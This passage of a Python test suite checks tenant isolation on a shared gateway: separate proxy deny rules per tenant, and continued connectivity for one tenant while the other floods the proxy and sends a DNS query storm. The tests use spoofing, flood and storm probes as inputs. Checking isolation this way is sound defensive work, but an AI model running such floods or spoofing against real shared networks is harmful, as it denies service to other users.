    call("tenant", "rm", "--force", TENANT, ok=False)


def test_neighbours_have_rules_of_their_own(pair: list[Service], net: Internet) -> None:
    flooder, victim = pair
    net.forget()
    gateway = flooder.sh("cat /etc/resolv.conf").stdout.split()[1]
    site, ok = get(f"http://{SITE}/"), get("http://ok.example.org/")
    there = victim.inspect()["address"]
    results = flooder.probe(
        f"name victim {PORT} {text('W')}", f"tcp {gateway} 3128 {site}",
        f"tcp {gateway} 3128 {ok}", f"spoof {there} {gateway}",
    )  # fmt: skip
    assert said(results[0]).split()[1].decode() == flooder.inspect()["address"]
    assert f"{SITE}/".encode() in said(results[1])
    assert said(results[2]).startswith(b"HTTP/1.1 403")
    assert results[3].split()[1:] == ["EPERM", "ok", "ok", "silence"] or (
        results[3].endswith("silence")
    )
    first, second = (said(r) for r in victim.probe(f"tcp {gateway} 3128 {site}",
                                                   f"tcp {gateway} 3128 {ok}"))  # fmt: skip
    assert first.startswith(b"HTTP/1.1 403")
    assert b"ok.example.org/" in second
    assert {e["name"] for e in flooder.events("network.deny")} == {"ok.example.org"}
    assert {e["name"] for e in victim.events("network.deny")} == {SITE}


def test_a_flood_leaves_the_neighbour_its_network(pair: list[Service], net: Internet) -> None:
    flooder, victim = pair
    gateway = flooder.sh("cat /etc/resolv.conf").stdout.split()[1]
    where, port = victim.ports[0]
    flood = [f"flood {gateway} 3128 400", f"storm {gateway} 3000 {query('0000000.a.b').hex()}"]
    with ThreadPoolExecutor(1) as pool:
        flooding = pool.submit(flooder.probe, *flood)
        answers = []
        while not flooding.done():
            (result,) = victim.probe(f"tcp {gateway} 3128 {get('http://ok.example.org/well')}")
            answers.append(b"ok.example.org/well" in said(result))
            answers.append(exchange(net.connect(where, port), b"W").endswith(b"\n"))
        alive = [int(line.split()[1]) for line in flooding.result()[::2]]
    assert answers
    assert all(answers)
    assert max(alive) <= 64
